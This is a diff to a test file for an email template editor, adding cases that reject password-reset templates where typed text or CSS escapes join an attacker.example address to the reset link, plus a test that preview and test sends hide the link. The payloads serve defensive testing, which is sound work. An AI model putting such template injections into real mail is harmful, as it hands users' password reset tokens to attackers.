@@ -122,6 +122,18 @@ describe.each(DB_TARGETS)('secrets never readable in the outbox (%s)', (target) 
       ['Reset {{resetPasswordLink}}', '<p><a href="{{resetPasswordLink}}">go</a></p>', true, /subject cannot contain/],
       ['Reset', 'Go to https://attacker.example now. {{resetPasswordLink}}', false, /Type no web addresses/],
       ['Reset', '{{#resetPasswordLink}}x{{/resetPasswordLink}} {{resetPasswordLink}}', false, /section/],
+      // Typed text glued to the link makes it part of another address for a mail client that links addresses.
+      ['Reset', '<p>Go to attacker.example/?x={{resetPasswordLink}}</p>', true, /must stand on its own/],
+      ['Reset', '<p>attacker.example#{{ resetPasswordLink }}</p>', true, /must stand on its own/],
+      ['Reset', 'Visit attacker.example/{{resetPasswordLink}} now', false, /must stand on its own/],
+      ['Reset', 'Visit {{resetPasswordLink}}@attacker.example now', false, /must stand on its own/],
+      // CSS escapes rebuild an address next to the link without typing one.
+      [
+        'Reset',
+        '<style>p{background:url(\\2f\\2f attacker.example\\2f {{resetPasswordLink}})}</style><p><a href="{{resetPasswordLink}}">x</a></p>',
+        true,
+        /cannot contain a <style> element/,
+      ],
     ];
     for (const [subject, body, isHtml, message] of cases) {
       const res = await put(subject, body, isHtml);
@@ -136,5 +148,29 @@ describe.each(DB_TARGETS)('secrets never readable in the outbox (%s)', (target) 
     );
     expect(ok.statusCode).toBe(200);
     expect((await as(admin, 'POST', `${TEMPLATES}/${tpl.id}/reset`, {})).statusCode).toBe(200);
+  });
+
+  it('never lets a preview or test send fill the live link with a typed address', async () => {
+    const tpl = await byKey('password_reset');
+    const evil = 'http://attacker.example/steal';
+    const sent = await as(editor, 'POST', `${TEMPLATES}/${tpl.id}/test`, {
+      to: 'boss@example.com',
+      replacements: { resetPasswordLink: evil, userName: 'Boss' },
+    });
+    expect(sent.statusCode).toBe(200);
+    await t.drain();
+    const [mail] = await t.inbox('boss@example.com');
+    expect(mail!.subject).toBe('Reset your Serenade password');
+    expect(`${mail!.text}${mail!.html}`).not.toContain('attacker.example');
+    expect(mail!.text).toContain('[hidden: password reset link]');
+    const preview = await as(editor, 'POST', '/api/admin/email/preview', {
+      subject: 'x',
+      body: '<p><a href="{{verificationLink}}">Confirm</a></p>',
+      is_html: true,
+      replacements: { verificationLink: evil },
+    });
+    expect(preview.statusCode).toBe(200);
+    expect(preview.json().data.html).not.toContain('attacker.example');
+    expect(preview.json().data.html).toContain('[hidden: e-mail confirmation link]');
   });
 });
